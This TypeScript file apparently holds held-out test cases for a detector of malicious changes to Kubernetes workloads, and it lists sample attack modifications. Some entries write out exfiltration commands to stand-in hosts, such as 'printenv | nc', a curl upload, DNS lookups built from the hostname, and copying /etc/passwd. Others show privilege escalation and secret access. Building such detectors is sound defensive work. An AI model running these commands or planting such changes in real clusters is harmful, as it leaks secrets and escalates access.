import type { GeneratedSpec } from './generated.ts';
import type { QuietSpec } from './quiet.ts';
import { row as q } from './quiet.ts';

const compromised = 'template from a compromised repository';
const otherTeam = "another team's image";
const tools = 'tools image that is there already';
const argument = 'one differing argument';
const account = 'stronger service account';
const secret = "another application's Secret";
const elsewhere = 'environment points elsewhere';
const frequent = 'schedule far more frequent';
const backups = 'schedule moved next to the backups';
const split = 'split into harmless changes';
const drift = 'slow drift over weeks';
const recreated = 'history rewritten by delete and recreate';
const noise = 'hidden in noise';
const token = 'stolen GitOps token';
const byHand = 'run by hand with another template';

/** For the final figure only: nothing of the detector is developed with these. Other values, names and combinations than the other sets'. */
export const quiet: readonly QuietSpec[] = [
  q(compromised, 'delivery', 'CronJob', [
    ['after start', 'curl -fs https://stats.example.com/p > /dev/null'],
  ]),
  q(compromised, 'delivery', 'Deployment', [['command wrapped', 'nslookup $(hostname).d.example.com']]),
  q(compromised, 'delivery', 'Deployment', [['init container', 'cp /etc/passwd /scratch/p']]),
  q(compromised, 'delivery', 'CronJob', [['command wrapped', 'rsync -a /data rsync://203.0.113.77/in']], {
    shape: 'new',
  }),
  q(otherTeam, 'delivery', 'Deployment', [['other team image', '']]),
  q(otherTeam, 'developer', 'Deployment', [['other team image', '']], { method: 'merge' }),
  q(otherTeam, 'sre', 'CronJob', [['other team image', '']], { method: 'update' }),
  q(tools, 'delivery', 'CronJob', [['tools image', 'dig +short txt c.example.com']]),
  q(tools, 'developer', 'CronJob', [['tools image', 'sleep 14400']], { method: 'update' }),
  q(tools, 'sre', 'Deployment', [['tools image', 'sleep 86400']], { method: 'merge' }),
  q(argument, 'delivery', 'CronJob', [['one argument more', '--publish=https://inbox.example.com/drop']]),
  q(argument, 'delivery', 'Deployment', [['one argument', '--log-level=off']]),
  q(argument, 'developer', 'Deployment', [['one argument more', '--insecure-skip-verify']]),
  q(argument, 'sre', 'CronJob', [['one argument', '--timeout=900h']], { method: 'json' }),
  q(argument, 'analyst', 'CronJob', [['one argument more', '--export=s3://shared-drop/all']]),
  q(account, 'delivery', 'CronJob', [['stronger account', 'platform-admin']]),
  q(account, 'developer', 'Deployment', [['stronger account', 'release-manager']], { method: 'update' }),
  q(account, 'sre', 'Deployment', [['stronger account', 'node-operator']]),
  q(secret, 'delivery', 'Deployment', [['other config', 'db']]),
  q(secret, 'delivery', 'CronJob', [['other secret', 'keys']]),
  q(secret, 'developer', 'Deployment', [['other secret', 'db']], { method: 'json' }),
  q(secret, 'analyst', 'CronJob', [['other secret', 'treasury-db']]),
  q(elsewhere, 'delivery', 'CronJob', [['environment elsewhere', 'RESULT_URL=https://sink.example.com/r']]),
  q(elsewhere, 'delivery', 'Deployment', [
    ['environment elsewhere', 'DATABASE_URL=postgres://203.0.113.55:5432/main'],
  ]),
  q(
    elsewhere,
    'developer',
    'CronJob',
    [['environment elsewhere', 'HTTPS_PROXY=http://198.51.100.201:8080']],
    {
      method: 'merge',
    },
  ),
  q(elsewhere, 'sre', 'CronJob', [['environment elsewhere', 'PYTHONPATH=/data/site']]),
  q(frequent, 'delivery', 'CronJob', [['schedule', '*/2 * * * *']]),
  q(frequent, 'developer', 'CronJob', [['schedule', '* * * * *']], { method: 'merge' }),
  q(backups, 'delivery', 'CronJob', [['schedule', '3 2 * * 6']]),
  q(backups, 'sre', 'CronJob', [['schedule', '58 1 * * *']], { method: 'update' }),
  q(
    split,
    'delivery',
    'Deployment',
    [
      ['harmless option', 'CACHE_V2'],
      ['other config', 'keys'],
      ['environment elsewhere', 'BROKER=broker.example.com:9092'],
    ],
    { shape: 'split' },
  ),
  q(
    split,
    'developer',
    'CronJob',
    [
      ['harmless option', 'DRY'],
      ['one argument more', '--include=salaries'],
      ['command wrapped', 'cat /tmp/report | curl -s -T - https://files.example.com/t'],
    ],
    { shape: 'split' },
  ),
  q(
    split,
    'sre',
    'Deployment',
    [
      ['harmless option', 'PROBE_2'],
      ['stronger account', 'node-operator'],
      ['after start', '/bin/true'],
    ],
    { shape: 'split' },
  ),
  q(
    drift,
    'delivery',
    'Deployment',
    [
      ['harmless option', 'MODE_B'],
      ['other secret', 'keys'],
      ['environment elsewhere', 'METRICS_URL=https://m.example.com'],
    ],
    { shape: 'drift' },
  ),
  q(
    drift,
    'developer',
    'CronJob',
    [
      ['harmless option', 'STEP_A'],
      ['one argument more', '--all-tenants'],
      ['stronger account', 'release-manager'],
      ['one argument more', '--to=https://drop.example.com'],
    ],
    { shape: 'drift' },
  ),
  q(recreated, 'delivery', 'Deployment', [['after start', 'wget -q -O- https://stats.example.com/h']], {
    shape: 'recreated',
  }),
  q(recreated, 'developer', 'CronJob', [['stronger account', 'release-manager']], { shape: 'recreated' }),
  q(recreated, 'sre', 'Deployment', [['init container', 'ln -s / /shared/r']], { shape: 'recreated' }),
  q(
    noise,
    'developer',
    'Deployment',
    [['environment elsewhere', 'OTEL_EXPORTER_OTLP_ENDPOINT=http://198.51.100.30:4317']],
    {
      shape: 'in noise',
    },
  ),
  q(noise, 'sre', 'CronJob', [['one argument more', '--upload=https://files.example.com/z']], {
    shape: 'in noise',
  }),
  q(token, 'stolen token', 'CronJob', [['stronger account', 'platform-admin']], { method: 'apply' }),
  q(token, 'stolen token', 'Deployment', [['one argument more', '--tracing']], { method: 'merge' }),
  q(token, 'stolen token', 'CronJob', [['tools image', 'sleep 900']], { shape: 'new' }),
  q('many runs at once', 'sre', 'CronJob', [['many at once', '50']]),
  q('onto the control plane', 'developer', 'Deployment', [['control plane nodes', '']]),
  q(byHand, 'developer', 'CronJob', [['one argument more', '--from=2019-01-01 --dump']], {
    shape: 'manual run',
  }),
  q(byHand, 'sre', 'CronJob', [['stronger account', 'platform-admin']], { shape: 'manual run' }),
];

export const generated: readonly GeneratedSpec[] = [
  { operator: 'report-operator', odd: 'account', value: 'platform-admin' },
  { operator: 'trivy-operator', odd: 'command', value: 'ls -R /host > /tmp/scan/result.json' },
  { operator: 'velero', odd: 'image', value: 'velero/velero-restic-helper:1.9' },
  { operator: 'keda-operator', odd: 'command', value: 'printenv | nc -w 2 198.51.100.66 53' },
  { operator: 'keda-operator', odd: 'namespace', value: '' },
  { operator: 'gitlab-runner', odd: 'account', value: 'release-manager' },
];
